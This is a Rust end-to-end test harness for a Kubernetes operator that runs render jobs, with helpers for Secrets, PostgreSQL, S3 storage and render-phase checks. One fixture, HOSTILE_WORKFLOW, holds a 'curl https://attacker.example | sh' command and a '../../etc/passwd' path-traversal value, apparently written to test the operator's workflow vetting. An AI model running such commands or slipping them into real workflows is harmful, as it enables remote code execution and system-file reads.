//! One foundry on the real control plane with real backends: a namespace of its own, the
//! Secrets, an ApprovedNodeList and a developer-mode VideoFoundry (vetting set back to `strict`)
//! whose database is the test PostgreSQL and whose bucket is on the test Ceph RGW. The operator
//! runs in-process (all three controllers, watching this namespace only) or as the real binary.
#![allow(dead_code)]

use std::str::FromStr;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::time::Duration;

use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Secret;
use kube::{Api, Client};
use serde_json::{Value, json};
use sqlx::PgPool;
use sqlx::postgres::{PgConnectOptions, PgPoolOptions};
use tokio::sync::watch;
use videofoundry::config::OperatorConfig;
use videofoundry::controller::{self, Context};
use videofoundry::crd::conditions::is_true;
use videofoundry::crd::render_job::RenderPhase;
use videofoundry::crd::{ApprovedNodeList, RenderJob, VideoFoundry};
use videofoundry::metrics::Metrics;
use videofoundry::postgres::{FoundryDatabase, tenant};

use crate::common::{cluster, service_env};
use std::process::Stdio;

pub const FOUNDRY: &str = "studio";
pub const DATABASE: &str = "vf_render_e2e";

/// An approved workflow: core nodes and the pinned model of the example list.
pub const APPROVED_WORKFLOW: &str = r#"{
  "4": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "sd_xl_base_1.0.safetensors"}},
  "5": {"class_type": "EmptyLatentImage", "inputs": {"width": 512, "height": 512, "batch_size": 1}},
  "6": {"class_type": "CLIPTextEncode", "inputs": {"text": "a lighthouse at dawn", "clip": ["4", 1]}},
  "3": {"class_type": "KSampler", "inputs": {"seed": 1, "steps": 4, "cfg": 7, "sampler_name": "euler", "scheduler": "normal", "denoise": 1, "model": ["4", 0], "positive": ["6", 0], "negative": ["6", 0], "latent_image": ["5", 0]}},
  "8": {"class_type": "VAEDecode", "inputs": {"samples": ["3", 0], "vae": ["4", 2]}},
  "9": {"class_type": "SaveImage", "inputs": {"filename_prefix": "e2e", "images": ["8", 0]}}
}"#;

/// A hostile workflow: an unknown code-running node and a path escaping the models folder.
pub const HOSTILE_WORKFLOW: &str = r#"{
  "1": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "../../etc/passwd"}},
  "2": {"class_type": "EvilRemoteShell", "inputs": {"command": "curl https://attacker.example | sh"}}
}"#;

pub struct Servers {
    pub postgres_url: String,
    pub s3_endpoint: String,
    pub s3_key_id: String,
    pub s3_secret: String,
    pub s3_ca: String,
}

pub fn servers() -> Option<Servers> {
    let ca_file = service_env("VF_TEST_S3_CA_FILE")?;
    Some(Servers {
        postgres_url: service_env("VF_TEST_POSTGRES_URL")?,
        s3_endpoint: service_env("VF_TEST_S3_ENDPOINT")?,
        s3_key_id: service_env("VF_TEST_S3_ADMIN_ACCESS_KEY_ID")?,
        s3_secret: service_env("VF_TEST_S3_ADMIN_SECRET_ACCESS_KEY")?,
        s3_ca: std::fs::read_to_string(ca_file).unwrap(),
    })
}

pub struct Harness {
    pub client: Client,
    pub namespace: String,
    pub servers: Servers,
    pub bucket: String,
    pub database: FoundryDatabase,
    pub admin: PgPool,
    operator: Option<(watch::Sender<bool>, tokio::task::JoinHandle<()>)>,
    metrics: Arc<Metrics>,
    config_file: Option<tempfile::NamedTempFile>,
}

impl Harness {
    /// Sets everything up and waits for the foundry to be Ready (with the operator running
    /// in-process when `in_process`).
    pub async fn start(label: &str, max_concurrent: u32, in_process: bool) -> Option<Self> {
        let client = cluster::client().await?;
        let servers = servers()?;
        cluster::install_crds(&client).await;
        cluster::ensure_gvisor_runtime_class(&client).await;
        let namespace = cluster::namespace(&client, label).await;
        let bucket = format!("vf-{namespace}");
        cluster::apply::<Secret>(
            &client,
            &namespace,
            json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "pg-admin"},
                   "stringData": {"url": servers.postgres_url}}),
        )
        .await;
        cluster::apply::<Secret>(
            &client,
            &namespace,
            json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s3-admin"},
                   "stringData": {"accessKeyId": servers.s3_key_id, "secretAccessKey": servers.s3_secret,
                                  "ca.crt": servers.s3_ca}}),
        )
        .await;
        let mut list: Value = serde_yaml::from_str(
            &std::fs::read_to_string(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/examples/approvednodelist.yaml"
            ))
            .unwrap(),
        )
        .unwrap();
        list["metadata"]["namespace"] = json!(namespace);
        cluster::apply::<ApprovedNodeList>(&client, &namespace, list).await;
        cluster::apply::<VideoFoundry>(
            &client,
            &namespace,
            json!({
                "apiVersion": "videofoundry.dev/v1alpha1", "kind": "VideoFoundry",
                "metadata": {"name": FOUNDRY},
                "spec": {
                    "executionMode": "developer",
                    "vetting": {"mode": "strict"},
                    "developerSecretRef": {"name": "dev-secrets"},
                    "database": {"connectionSecretRef": {"name": "pg-admin", "key": "url"},
                                 "databaseName": DATABASE},
                    "storage": {"endpoint": servers.s3_endpoint, "region": "us-east-1",
                                "bucket": bucket, "forcePathStyle": true,
                                "credentialsSecretRef": {"name": "s3-admin"},
                                "encryption": {"mode": "none"}},
                    "workers": {"image": "vf.local/busybox:1.35", "maxConcurrentRenders": max_concurrent,
                                "defaultTimeout": "10m"},
                    "approvedNodeLists": [{"name": "studio-approved"}]
                }
            }),
        )
        .await;
        let database = FoundryDatabase::for_foundry(&namespace, FOUNDRY).unwrap();
        // The database exists once the foundry is provisioned: connect lazily.
        let admin = PgPoolOptions::new().max_connections(2).connect_lazy_with(
            PgConnectOptions::from_str(&servers.postgres_url)
                .unwrap()
                .database(DATABASE),
        );
        let mut harness = Self {
            client,
            namespace,
            servers,
            bucket,
            database,
            admin,
            operator: None,
            metrics: Arc::new(Metrics::default()),
            config_file: None,
        };
        if in_process {
            harness.start_operator();
        }
        Some(harness)
    }

    /// Runs the operator's controllers in this process, watching this namespace only.
    pub fn start_operator(&mut self) {
        let config = OperatorConfig {
            watch_namespace: Some(self.namespace.clone()),
            leader_election: videofoundry::config::LeaderElectionConfig {
                enabled: false,
                ..Default::default()
            },
            ..OperatorConfig::default()
        };
        self.start_operator_as(self.client.clone(), config);
    }

    /// Runs the operator's controllers in this process with `client` (e.g. one holding only
    /// the chart's ServiceAccount token) and `config`.
    pub fn start_operator_as(&mut self, client: Client, config: OperatorConfig) {
        self.metrics = Arc::new(Metrics::default());
        let ctx = Arc::new(Context::new(
            client,
            self.metrics.clone(),
            config,
            Some("e2e".to_owned()),
        ));
        let (stop, stopped) = watch::channel(false);
        let task = tokio::spawn(async move {
            controller::run_all(
                ctx,
                "e2e".to_owned(),
                Arc::new(AtomicBool::new(false)),
                stopped,
            )
            .await
            .unwrap();
        });
        self.operator = Some((stop, task));
    }

    /// Stops the in-process operator and waits for it.
    pub async fn stop_operator(&mut self) {
        if let Some((stop, task)) = self.operator.take() {
            let _ = stop.send(true);
            let _ = tokio::time::timeout(Duration::from_secs(30), task).await;
        }
    }

    /// Waits (bounded) until the in-process operator has reconciled `controller` `count` times.
    pub async fn reconciled_at_least(&self, controller: &str, count: usize) {
        let needle = format!("videofoundry_reconcile_runs_total{{controller=\"{controller}\"}} ");
        let waited = tokio::time::timeout(Duration::from_secs(60), async {
            let mut ticker = tokio::time::interval(Duration::from_millis(100));
            loop {
                ticker.tick().await;
                let text = self.metrics.encode().unwrap();
                let runs = text
                    .lines()
                    .find_map(|line| line.strip_prefix(&needle))
                    .and_then(|n| n.trim().parse::<f64>().ok())
                    .unwrap_or(0.0);
                if runs >= count as f64 {
                    return;
                }
            }
        })
        .await;
        assert!(
            waited.is_ok(),
            "{controller} did not reconcile {count} times in 60 s"
        );
    }

    /// Waits (bounded) until the in-process operator's `series` (a sample's name and labels,
    /// as exposed) reaches `value`, and returns the whole exposition.
    pub async fn metric_reaches(&self, series: &str, value: f64) -> String {
        let needle = format!("{series} ");
        let waited = tokio::time::timeout(Duration::from_secs(60), async {
            let mut ticker = tokio::time::interval(Duration::from_millis(100));
            loop {
                ticker.tick().await;
                let text = self.metrics.encode().unwrap();
                let found = text
                    .lines()
                    .find_map(|line| line.strip_prefix(&needle))
                    .and_then(|n| n.trim().parse::<f64>().ok())
                    .unwrap_or(0.0);
                if found >= value {
                    return text;
                }
            }
        })
        .await;
        waited.unwrap_or_else(|_| {
            panic!(
                "{series} did not reach {value} in 60 s:\n{}",
                self.metrics.encode().unwrap()
            )
        })
    }

    /// Starts the operator binary against the test cluster, watching this namespace only.
    pub async fn spawn_binary(&mut self) -> tokio::process::Child {
        if self.config_file.is_none() {
            let mut file = tempfile::NamedTempFile::new().unwrap();
            std::io::Write::write_all(
                &mut file,
                format!(
                    "httpAddress: 127.0.0.1:0\nwatchNamespace: {}\nleaderElection: {{enabled: false}}\n",
                    self.namespace
                )
                .as_bytes(),
            )
            .unwrap();
            self.config_file = Some(file);
        }
        let config = self.config_file.as_ref().unwrap().path().to_owned();
        let kubeconfig = std::env::var("VF_TEST_KUBECONFIG")
            .or_else(|_| std::env::var("KUBECONFIG"))
            .unwrap();
        tokio::process::Command::new(env!("CARGO_BIN_EXE_videofoundry-operator"))
            .args(["run", "--config"])
            .arg(config)
            .env("KUBECONFIG", kubeconfig)
            .env("VF_LOG", "warn")
            .kill_on_drop(true)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap()
    }

    /// What changes when the operator writes to the foundry's database: the render rows with
    /// their update times, and the number of audit rows (read as the admin, all tenants).
    pub async fn audit_rows(&self) -> (i64, i64) {
        let sql = format!(
            "SELECT count(*) + coalesce(sum(extract(epoch FROM updated_at))::bigint, 0) FROM {}.render_jobs",
            videofoundry::postgres::quote_ident(&self.database.schema)
        );
        let renders: (i64,) = sqlx::query_as(sqlx::AssertSqlSafe(sql))
            .fetch_one(&self.admin)
            .await
            .unwrap();
        let sql = format!(
            "SELECT count(*) FROM {}.audit_logs",
            videofoundry::postgres::quote_ident(&self.database.schema)
        );
        let audit: (i64,) = sqlx::query_as(sqlx::AssertSqlSafe(sql))
            .fetch_one(&self.admin)
            .await
            .unwrap();
        (renders.0, audit.0)
    }

    pub fn renders(&self) -> Api<RenderJob> {
        Api::namespaced(self.client.clone(), &self.namespace)
    }

    pub fn jobs(&self) -> Api<Job> {
        Api::namespaced(self.client.clone(), &self.namespace)
    }

    pub fn secrets(&self) -> Api<Secret> {
        Api::namespaced(self.client.clone(), &self.namespace)
    }

    /// Waits for the foundry to be Ready.
    pub async fn foundry_ready(&self) -> VideoFoundry {
        let api: Api<VideoFoundry> = Api::namespaced(self.client.clone(), &self.namespace);
        cluster::wait_for(&api, FOUNDRY, "foundry Ready", |f: &VideoFoundry| {
            f.status
                .as_ref()
                .is_some_and(|s| is_true(&s.conditions, "Ready"))
        })
        .await
    }

    /// A user the platform created in the foundry's database.
    pub async fn create_user(&self) -> String {
        let id = uuid::Uuid::new_v4();
        let sql = format!(
            "INSERT INTO {}.users (id, email) VALUES ($1, $2)",
            videofoundry::postgres::quote_ident(&self.database.schema)
        );
        sqlx::query(sqlx::AssertSqlSafe(sql))
            .bind(id)
            .bind(format!("{id}@example.test"))
            .execute(&self.admin)
            .await
            .unwrap();
        id.to_string()
    }

    /// Applies a RenderJob with an inline workflow.
    pub async fn render(&self, name: &str, user: &str, workflow: &str, extra: Value) -> RenderJob {
        let mut spec = json!({
            "foundryRef": {"name": FOUNDRY}, "userId": user,
            "workflow": {"inline": workflow}, "timeout": "10m"
        });
        if let Value::Object(more) = extra {
            for (key, value) in more {
                spec[key] = value;
            }
        }
        cluster::apply(
            &self.client,
            &self.namespace,
            json!({"apiVersion": "videofoundry.dev/v1alpha1", "kind": "RenderJob",
                   "metadata": {"name": name}, "spec": spec}),
        )
        .await
    }

    /// Waits until the render reaches `phase`.
    pub async fn phase(&self, name: &str, phase: RenderPhase) -> RenderJob {
        cluster::wait_for(
            &self.renders(),
            name,
            &format!("phase {phase:?}"),
            move |r: &RenderJob| r.status.as_ref().is_some_and(|s| s.phase == phase),
        )
        .await
    }

    /// Waits until the render's `type_` condition has `reason`.
    pub async fn reason(&self, name: &str, type_: &'static str, reason: &'static str) -> RenderJob {
        cluster::wait_for(
            &self.renders(),
            name,
            &format!("{type_} reason {reason}"),
            move |r: &RenderJob| {
                r.status.as_ref().is_some_and(|s| {
                    videofoundry::crd::conditions::find(&s.conditions, type_)
                        .is_some_and(|c| c.reason == reason)
                })
            },
        )
        .await
    }

    /// Waits for the render's Job.
    pub async fn job(&self, render: &str) -> Job {
        let name = videofoundry::resources::names::worker_job(render);
        let jobs = self.jobs();
        let found = tokio::time::timeout(Duration::from_secs(90), async {
            let mut ticker = tokio::time::interval(Duration::from_millis(200));
            loop {
                ticker.tick().await;
                if let Some(job) = jobs.get_opt(&name).await.unwrap() {
                    return job;
                }
            }
        })
        .await;
        found.unwrap_or_else(|_| panic!("no Job {name} within 90 s"))
    }

    /// The application role's pool (password from the developer Secret).
    pub async fn application(&self) -> PgPool {
        let secret = self.secrets().get("dev-secrets").await.unwrap();
        let password = secret.data.unwrap()["database.password"].0.clone();
        PgPoolOptions::new()
            .max_connections(2)
            .connect_with(
                PgConnectOptions::from_str(&self.servers.postgres_url)
                    .unwrap()
                    .database(DATABASE)
                    .username(&self.database.roles.application)
                    .password(std::str::from_utf8(&password).unwrap()),
            )
            .await
            .unwrap()
    }

    /// `(phase, audit actions in order)` of a render as its user sees them (application role,
    /// tenant transaction).
    pub async fn record(
        &self,
        app: &PgPool,
        user: &str,
        uid: &str,
    ) -> (Option<String>, Vec<String>) {
        let schema = videofoundry::postgres::quote_ident(&self.database.schema);
        let secret = self.secrets().get("dev-secrets").await.unwrap();
        let claim = secret.data.unwrap()["database.claimKey"].0.clone();
        let key = videofoundry::postgres::TenantKey::from_text(&secrecy::SecretString::from(
            String::from_utf8(claim).unwrap(),
        ))
        .unwrap();
        let mut tx = tenant::begin(app, &key, user).await.unwrap();
        let rows: Vec<(Option<String>,)> = sqlx::query_as(sqlx::AssertSqlSafe(format!(
            "SELECT phase FROM {schema}.render_jobs WHERE kubernetes_uid = $1::uuid"
        )))
        .bind(uid)
        .fetch_all(&mut *tx)
        .await
        .unwrap();
        assert!(rows.len() <= 1, "one row per render, found {}", rows.len());
        let actions: Vec<(String,)> = sqlx::query_as(sqlx::AssertSqlSafe(format!(
            "SELECT action FROM {schema}.audit_logs WHERE resource_id = $1 ORDER BY id"
        )))
        .bind(uid)
        .fetch_all(&mut *tx)
        .await
        .unwrap();
        tx.rollback().await.unwrap();
        (
            rows.into_iter().next().and_then(|r| r.0),
            actions.into_iter().map(|a| a.0).collect(),
        )
    }

    /// An S3 client with the operator's credentials, for seeding inputs.
    pub fn s3(&self) -> aws_sdk_s3::Client {
        let spec: videofoundry::crd::video_foundry::StorageSpec = serde_json::from_value(json!({
            "endpoint": self.servers.s3_endpoint, "region": "us-east-1", "bucket": self.bucket,
            "forcePathStyle": true, "credentialsSecretRef": {"name": "s3-admin"}
        }))
        .unwrap();
        videofoundry::storage::S3Connection::from_spec(
            &spec,
            self.servers.s3_key_id.clone(),
            secrecy::SecretString::from(self.servers.s3_secret.clone()),
            Some(self.servers.s3_ca.clone().into_bytes()),
        )
        .client()
        .unwrap()
    }

    /// An HTTPS client that trusts the RGW test CA.
    pub fn http(&self) -> reqwest::Client {
        reqwest::Client::builder()
            .add_root_certificate(
                reqwest::Certificate::from_pem(self.servers.s3_ca.as_bytes()).unwrap(),
            )
            .build()
            .unwrap()
    }
}

impl Drop for Harness {
    fn drop(&mut self) {
        if let Some((stop, task)) = self.operator.take() {
            let _ = stop.send(true);
            task.abort();
        }
    }
}
